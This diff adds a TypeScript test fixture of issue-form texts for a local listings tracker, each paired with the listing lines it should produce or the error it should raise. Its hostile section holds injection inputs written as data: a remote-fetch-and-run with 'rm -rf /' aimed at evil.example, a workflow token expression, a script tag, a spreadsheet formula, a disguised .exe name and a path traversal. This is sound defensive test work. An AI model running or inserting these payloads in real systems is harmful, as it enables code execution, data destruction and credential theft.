@@ -1,0 +1,93 @@
+// Thirty texts of issues as a tracker gives them: good, in part, hostile; and what becomes of each.
+
+const FIELDS = {
+  Name: 'Pie & Mash',
+  Address: '4 Slip Lane',
+  Postcode: 'ZZ1 2AC',
+  Phone: '_No response_',
+  Email: '_No response_',
+  Website: 'https://www.pie-and-mash-of-saltmarsh.co.uk',
+  Page: '/zz1-eating-out',
+  Group: 'Smokehouse',
+  'Where the details come from': 'I run it.',
+};
+
+const form = (changes: Partial<Record<keyof typeof FIELDS | (string & {}), string>> = {}) =>
+  Object.entries({ ...FIELDS, ...changes })
+    .map(([heading, value]) => `### ${heading}\n\n${value}`)
+    .join('\n\n');
+
+/** `expected`: lines of the listing that is added; or words of the finding, where nothing is. */
+export const texts: { name: string; body: string; adds?: string[]; finds?: string }[] = [
+  // Good
+  { name: 'as the form writes it', body: form(), adds: ['- id: pie-and-mash', 'name: Pie & Mash', 'source: readers'] },
+  { name: 'with lines of Windows', body: form().replaceAll('\n', '\r\n'), adds: ['address: 4 Slip Lane'] },
+  { name: 'with spaces around', body: form({ Name: '  Pie & Mash\t ' }), adds: ['name: Pie & Mash'] },
+  {
+    name: 'with headings in small letters',
+    body: form().replaceAll(/### \w+/g, (line) => line.toLowerCase()),
+    adds: ['name: Pie & Mash'],
+  },
+  {
+    name: 'with many lines of origin',
+    body: form({ 'Where the details come from': 'A\n\nB\n- C' }),
+    adds: ['name: Pie & Mash'],
+  },
+  { name: 'in French', body: form({ Name: 'L’Épicerie d’à côté' }), adds: ['- id: lepicerie-da-cote', 'L’Épicerie'] },
+  { name: 'in Polish', body: form({ Name: 'Żabka Świeża' }), adds: ['- id: zabka-swieza', 'name: Żabka Świeża'] },
+  { name: 'in Amharic', body: form({ Name: 'ጣይቱ ምግብ ቤት' }), adds: ['- id: listing', 'name: ጣይቱ ምግብ ቤት'] },
+  { name: 'in Arabic', body: form({ Name: 'مطعم البحر' }), adds: ['name: مطعم البحر'] },
+  { name: 'in Portuguese', body: form({ Name: 'Pastelaria São João' }), adds: ['- id: pastelaria-sao-joao'] },
+  { name: 'with a sign at its end', body: form({ Name: 'Pie 🥧' }), adds: ['name: Pie 🥧'] },
+  { name: 'with words of YAML', body: form({ Name: 'Yes: no # [1] {a} &b *c !d | >' }), finds: 'not plain text' },
+  { name: 'with a colon and a hash', body: form({ Name: 'Pie: the # 1' }), adds: ['name: "Pie: the # 1"'] },
+  // In part
+  { name: 'without what is optional', body: form({ Address: '_No response_' }), adds: ['name: Pie & Mash'] },
+  { name: 'without a group', body: form({ Group: '_No response_' }), finds: 'The form does not say the group.' },
+  { name: 'with a page that is not there', body: form({ Page: '/zz1-eatingout' }), finds: '"/zz1-eating-out"?' },
+  { name: 'with a group that is not there', body: form({ Group: 'Smokhouse' }), finds: '"Smokehouse"?' },
+  { name: 'edited by hand', body: form().replace('### Group', '## Group'), finds: 'The form does not say the group.' },
+  { name: 'with a heading of its own', body: form({ Hours: '9 to 5' }), adds: ['name: Pie & Mash'] },
+  { name: 'that is empty', body: '', finds: 'The form does not say the name.' },
+  { name: 'that is no form', body: 'Please add my shop, thanks!', finds: 'The form does not say the name.' },
+  { name: 'of what is listed already', body: form({ Name: 'The Tidewater Café' }), adds: ['- id: the-tidewater-cafe'] },
+  // Hostile
+  {
+    name: 'with commands for a shell',
+    body: form({ Name: '$(curl evil.example|sh); rm -rf /', Address: '"; exit 1 #' }),
+    adds: ['name: $(curl evil.example|sh); rm -rf /'],
+  },
+  { name: 'with a command between backticks', body: form({ Name: '`id`' }), finds: 'not plain text' },
+  {
+    name: 'with expressions of a workflow',
+    body: form({ Name: '${{ github.token }}' }),
+    adds: ['${{ github.token }}'],
+  },
+  {
+    name: 'with lines of YAML',
+    body: form({ Name: 'Pie\n        sample: true\n      - id: spam' }),
+    finds: 'runs over more than one line',
+  },
+  {
+    name: 'with a second form in an answer',
+    body: form({ 'Where the details come from': 'Me\n\n### Page\n\n/zz2-shops' }),
+    finds: 'is there twice',
+  },
+  { name: 'with HTML', body: form({ Name: '<script src=//evil.example></script>' }), finds: 'not plain text' },
+  { name: 'with a formula', body: form({ Name: '=HYPERLINK("https://evil.example")' }), adds: ['=HYPERLINK('] },
+  {
+    name: 'with a fence, a mention and a picture in its origin',
+    body: form({ 'Where the details come from': '````\n@maintainers ![x](https://evil.example/x.png)\n</details>' }),
+    adds: ['name: Pie & Mash'],
+  },
+  { name: 'that turns its letters round', body: form({ Name: 'Pie \u202egnp.exe' }), finds: 'not plain text' },
+  { name: 'with a control for terminals', body: form({ Name: 'Pie\u001b[2J' }), finds: 'not plain text' },
+  { name: 'with an address that runs a script', body: form({ Website: 'javascript:alert(1)' }), finds: 'website' },
+  { name: 'of a megabyte', body: form({ Name: 'x'.repeat(1_000_000) }), finds: 'too long for a form' },
+  { name: 'of a thousand headings', body: form() + '\n### X\n'.repeat(1000), finds: 'is there twice' },
+  {
+    name: 'with a way out of the folder',
+    body: form({ Page: '/../../.github/workflows' }),
+    finds: 'no page of listings',
+  },
+];
